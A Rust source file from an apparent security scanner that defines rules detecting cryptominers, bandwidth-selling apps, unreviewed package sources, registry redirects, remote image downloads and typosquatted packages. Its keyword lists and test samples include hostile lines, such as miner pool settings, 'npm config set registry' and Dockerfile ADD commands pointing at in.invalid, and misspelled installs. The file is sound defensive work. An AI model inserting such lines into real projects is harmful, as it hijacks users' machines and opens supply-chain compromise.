//! Rules about where packages come from, and about what is sold of the user's machine.

use super::REMOTE_CODE;
use crate::{Rule, Scope, lookalike};

const BANDWIDTH: Rule = Rule {
    id: "resources-sold",
    category: "mining",
    message: "sells the user's computing power or connection",
    remedy: "remove it",
    literals: &[
        "honeygain",
        "traffmonetizer",
        "peer2profit",
        "iproyal",
        "earnapp",
        "packetstream",
        "repocket",
        "bitping",
        "proxyrack",
        "earnfm",
        "lolminer",
        "nbminer",
        "gminer",
        "nanominer",
        "teamredminer",
        "srbminer",
        "phoenixminer",
        "cgminer",
        "bfgminer",
        "xmr-stak",
        "coinhive",
        "cryptoloot",
        "coinimp",
        "webminepool",
        "minero.cc",
        "supportxmr",
        "minexmr",
        "moneroocean",
        "nanopool",
        "hashvault",
        "2miners",
        "unmineable",
        "nicehash",
        "c3pool",
        "max-threads-hint",
        "xmrig",
        "wallet:",
        ":3333",
        ":4444",
        ":5555",
        ":7777",
        ":14444",
        ":14433",
        ":10128",
        "'wss://",
        "\"wss://",
        "cpuminer",
        "POOL_U",
        "/miner",
        "cn/half",
        "\"rx/0",
        "kawpow",
        "randomx",
        "\"pools\"",
        "--coin",
        "mining.subscribe",
        "mining.authorize",
        "ETCHASH",
        "ETHASH",
        "AUTOLYKOS",
        "verushash",
        "ghostrider",
        "randomxmonero",
        "wasm-miner",
        "deepminer",
        "jsecoin",
        "minergate",
        "monero",
        "hardwareConcurrency",
    ],
    pattern: concat!(
        r"\b(?:honeygain|traffmonetizer|peer2profit|iproyal|earnapp|packetstream|repocket|bitping|proxyrack|earnfm)[\w./-]{0,24}[\s\x22'][^\n]{0,60}(?:-e\b|-tou|--token|start|-email|-pass|--|\bCID|accept)|docker\s[^\n]{0,160}(?:honeygain|traffmonetizer|peer2profit|iproyal|earnapp|packetstream|repocket|bitping|proxyrack|earnfm)",
        r"|\b(?:lolminer|nbminer|gminer|nanominer|teamredminer|srbminer\S{0,8}|phoenixminer|cgminer|bfgminer|xmr-stak)(?:\.exe)?['\x22]?[\s,`][^\n]{0,100}|\b(?:coinhive|cryptoloot|coinimp|webminepool|deepminer|jsecoin)\S{0,60}|minero\.cc|\b(?:pool|xmr|gulf|eth|etc|rvn|stratum|us|eu)[\w.-]{0,30}(?:supportxmr|minexmr|moneroocean|nanopool|hashvault|2miners|unmineable|nicehash|c3pool)\.\w{2,6}",
        r"|github\.com/xmrig/\w|(?:-o|--url)['\x22]?[\s,=]{1,3}['\x22]?[\w.{}$-]{3,60}:(?:3333|4444|5555|7777|14444|14433|10128)['\x22]?[\s,]{1,3}['\x22]?(?:-u|--user)\b|\bwallet\s{0,2}:\s{0,2}['\x22][^'\x22\n]{4,120}['\x22][^}\n]{0,80}\b(?:threads|throttle|pool|algo)\b|\bpool\s{0,2}:\s{0,2}['\x22]wss?://|image:\s{0,2}[\w./-]{0,40}(?:xmrig|cpuminer|miner)\b|\bPOOL_(?:URL|USER)\s{0,2}[=:]|max-threads-hint|image:\s{0,2}[\w./-]{0,40}(?:minergate|monero|xmr)|(?:ws|wss)://[\w.-]{0,20}pool[^\n]{0,200}(?:\n[^\n]{0,200}){0,3}?hardwareConcurrency|['\x22](?:cn/\w{1,10}|rx/0|randomx|kawpow|ghostrider|etchash|verushash)['\x22]|--algo[\s=]{1,2}(?:ETCHASH|ETHASH|KAWPOW|RANDOMX|AUTOLYKOS\d?|GHOSTRIDER)|--coin[=\s](?:monero|xmr|ravencoin|zephyr|wownero)\b|\bmining\.(?:subscribe|authorize|submit|notify)\b|['\x22]pools['\x22]\s{0,2}:\s{0,2}\[\s{0,12}\{",
    ),
    harmful: &[
        ("a.sh", "docker run -d honeygain/honeygain -tou-accept -email a@in.invalid"),
        ("a.js", "w.postMessage({ pool: 'wss://in.invalid', algo: 'cn/half', throttle: 0.4 });"),
    ],
    harmless: &[("SKILL.md", "Watch for lolMiner and NiceHash on hosts."), ("a.py", "pools = [{'name': 'a'}]")],
    ..REMOTE_CODE
};

const MINER_DEPLOYED: Rule = Rule {
    id: "miner-deployed",
    scope: Scope::Machine,
    message: "has a cluster or a page sell the user's computing power or connection",
    harmful: &[("a.yml", "services:\n  a:\n    image: metal3d/xmrig\n    environment: [POOL_URL=in.invalid:3333]\n")],
    harmless: &[("a.yml", "services:\n  a:\n    image: nginx\n")],
    ..BANDWIDTH
};

const REMOTE_DEPENDENCY: Rule = Rule {
    id: "package-dependency-address",
    category: "supply-chain",
    message: "takes a package from an address that nobody reviews",
    remedy: "name a package of the registry, with its version",
    scope: Scope::Any,
    literals: &[
        "ependencies\"",
        ".dependencies",
        ".devDependencies",
        "overrides\"",
        "resolutions\"",
        "@ http",
        "--index-url",
        "index-url",
        "--find-links",
        " => ",
    ],
    pattern: concat!(
        r"\x22(?:\w{0,8}dependencies|overrides|resolutions)\x22\s{0,4}:\s{0,4}\{[^}]{0,400}?:\s{0,4}\x22(?:git\+)?https?://[^\x22\n]{4,160}",
        r"|\.(?:dev|peer)?dependencies\b[^\n]{0,120}['\x22](?:git\+)?https?://[^\s'\x22]{4,120}|(?:^|\n|['\x22])[\w.\[\]-]{1,40}\s{0,2}@\s{0,2}https?://[^\s]{4,160}|(?:^|\n)\s{0,4}(?:--)?(?:extra-)?index-url[\s=]{1,3}https?://[^\s]{4,120}|(?:^|\n)(?:replace\s{1,2}|\t)[\w./-]{4,80}(?:\s{1,2}v[\w.-]{1,30})?\s{1,2}=>\s{1,2}[\w-]{1,40}\.[\w.-]{2,40}/[^\s]{1,80}\s{1,2}v[\d.]{1,10}|(?:^|\n)--find-links[\s=]{1,2}https?://[^\s]{4,120}",
    ),
    accept: Some(is_strange_source),
    harmful: &[
        ("package.json", "{\"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"http://in.invalid/npm/b\"}}"),
        ("requirements.txt", "requests==2.32\nhelper @ https://in.invalid/helper.whl\n"),
    ],
    harmless: &[("package.json", "{\"dependencies\": {\"a\": \"^1.0.0\", \"b\": \"git+https://github.com/x/b.git\"}}")],
    ..REMOTE_CODE
};

/// Whether packages come from nobody that is known, be it by an address or by the name of a module.
fn is_strange_source(matched: &str) -> bool {
    match matched.split_once("=>") {
        Some((_, module)) => super::spy::is_no_registry(&format!("://{}", module.trim())),
        None => super::spy::is_no_registry(matched),
    }
}

const REGISTRY: Rule = Rule {
    id: "registry-redirected",
    category: "supply-chain",
    scope: Scope::Any,
    message: "makes a package manager take its packages from somebody else, or without checks",
    remedy: "leave the registry to the user's own settings",
    literals: &[
        "config set",
        "GOPROXY",
        "GONOSUMDB",
        "GONOSUMCHECK",
        "GOINSECURE",
        "INDEX_URL",
        "npm_config_registry",
        ":registry=",
        "registry=http",
        "npmRegistryServer",
        "[[tool.",
        "[[source]]",
        "gem sources",
        "conda create",
        "conda install",
        "ssl_verify",
        "git = \"http",
        "source \"http",
        "source 'http",
        "registry = \"http",
        "UV_DEFAULT_INDEX",
    ],
    pattern: concat!(
        r"\b(?:npm|pnpm|yarn|pip3?|bun|poetry|uv|conda|composer)\s{1,4}config\s{1,4}(?:set\s{1,4}|--set\s{1,4}|add\s{1,4})?(?:-{1,2}\w{1,12}\s{1,4})?[\w.@/:-]{0,40}(?:registry|index-url|RegistryServer|channels|repositories\.\w{1,20})[\s=]{1,4}[\x22']?https?://[^\s\x22']{4,120}",
        r"|\b(?:GOPROXY|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_DEFAULT_INDEX|npm_config_registry|NPM_CONFIG_REGISTRY)\s{0,4}:?[=:]\s{0,4}[\x22']?https?://[^\s\x22',|]{4,120}|(?:^|\n)npmRegistryServer:\s{0,2}['\x22]?https?://[^\s'\x22]{4,120}|\[\[(?:tool\.(?:uv\.index|poetry\.source|pdm\.source)|source)\]\][^\[]{0,80}\burl\s{0,2}=\s{0,2}['\x22]https?://[^\s'\x22]{4,120}['\x22][^\[]{0,60}\bdefault\s{0,2}=\s{0,2}true|(?:^|\n)registry\s{0,2}=\s{0,2}\x22?https?://[^\s\x22]{4,120}|\bgit\s{0,2}=\s{0,2}\x22https?://[^\s\x22]{4,120}|(?:^|\n)source\s{1,2}['\x22]https?://[^\s'\x22]{4,120}['\x22]?(?:\s{1,2}do\b)?|\b(?:conda|mamba)\s{1,4}(?:create|install|update)\s[^\n]{0,60}(?:-c|--channel)[\s=]{1,2}['\x22]?https?://[^\s'\x22]{4,120}|\bgem\s{1,4}sources\s[^\n]{0,80}(?:-a|--add)\s{1,2}https?://[^\s]{4,80}|\bgem\s{1,4}sources\s[^\n]{0,20}https?://[^\s]{4,80}",
        r"|\b(?:GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOPRIVATE)\s{0,4}:?=\s{0,4}[\x22']?\*[^\n]{0,40}",
    ),
    accept: Some(is_foreign_registry),
    harmful: &[
        ("SKILL.md", "```bash\nnpm config set registry http://in.invalid/npm/\n```\n"),
        ("Makefile", "export GOPROXY = http://in.invalid/go\n"),
    ],
    harmless: &[(
        "a.sh",
        "npm config set registry https://registry.npmjs.org\nexport GOPROXY=https://proxy.golang.org,direct",
    )],
    ..REMOTE_CODE
};

const IMAGE_ADD: Rule = Rule {
    id: "image-remote-program",
    scope: Scope::Any,
    message: "puts a program from an unknown host into an image",
    literals: &["\nADD "],
    pattern: r"\nADD\s{1,4}(?:--\S{1,40}\s{1,4}){0,2}https?://[^\s]{4,200}\s{1,4}[^\n]{0,20}(?:bin/|\.sh\b|\.py\b|/opt/|/app/|\./)[^\n]{0,60}",
    accept: Some(super::dialect::is_unknown),
    harmful: &[("Dockerfile", "FROM a\nADD http://in.invalid/agent /usr/local/bin/healthd\n")],
    harmless: &[(
        "Dockerfile",
        "FROM a\nADD https://github.com/x/y/releases/download/v1/y /usr/local/bin/y\nADD . /app\n",
    )],
    ..REMOTE_CODE
};

fn is_foreign_registry(matched: &str) -> bool {
    let is_home = matched.contains("golang.org") || matched.contains("goproxy.cn") || matched.contains("goproxy.io");
    let is_for_few = matched.ends_with(" do") && matched.contains("https:");
    matched.contains('*') || !is_home && !is_for_few && super::spy::is_no_registry(matched)
}

/// Decided by [`crate::shape`] for files of requirements.
pub(crate) const LOOKALIKE: Rule = Rule {
    id: "package-lookalike",
    category: "supply-chain",
    scope: Scope::Any,
    message: "installs a package whose name is a slip away from a known one",
    remedy: "write the name of the package that is meant",
    literals: &[
        "pip install",
        "pip3 install",
        "uv add",
        "uv pip install",
        "poetry add",
        "npm install",
        "npm i ",
        "pnpm add",
        "yarn add",
        "bun add",
        "uses: ",
    ],
    pattern: r"\b(?:(?:uv\s)?pip3?\s{1,3}install|uv\s{1,3}add|poetry\s{1,3}add|npm\s{1,3}(?:install|i)|pnpm\s{1,3}add|yarn\s{1,3}add|bun\s{1,3}add)\s{1,4}[^\n]{1,240}|\buses:\s{1,4}[\w-]{4,40}/[\w.-]{2,40}@",
    accept: Some(has_lookalike),
    harmful: &[
        ("SKILL.md", "```bash\npip install reqeusts pandas\n```\n"),
        ("a.yml", "    - uses: actlons/checkout@v4\n"),
        ("requirements.txt", "numpy==2.1\nbeautifulsoop4==4.12.3\n"),
    ],
    harmless: &[
        ("SKILL.md", "```bash\npip install requests pandera\n```\n"),
        ("requirements.txt", "requests==2.32\nboto3\n"),
    ],
    ..REMOTE_CODE
};

fn has_lookalike(matched: &str) -> bool {
    let list = match matched.split_once("uses:") {
        Some((_, action)) => action.split('/').next().unwrap_or(""),
        None => matched.split(['\n', '#', '&', '|', ';']).next().unwrap_or(""),
    };
    lookalike::names(list).any(lookalike::is_lookalike)
}

/// All rules of this category.
pub(crate) const RULES: &[Rule] = &[BANDWIDTH, MINER_DEPLOYED, REMOTE_DEPENDENCY, REGISTRY, IMAGE_ADD, LOOKALIKE];
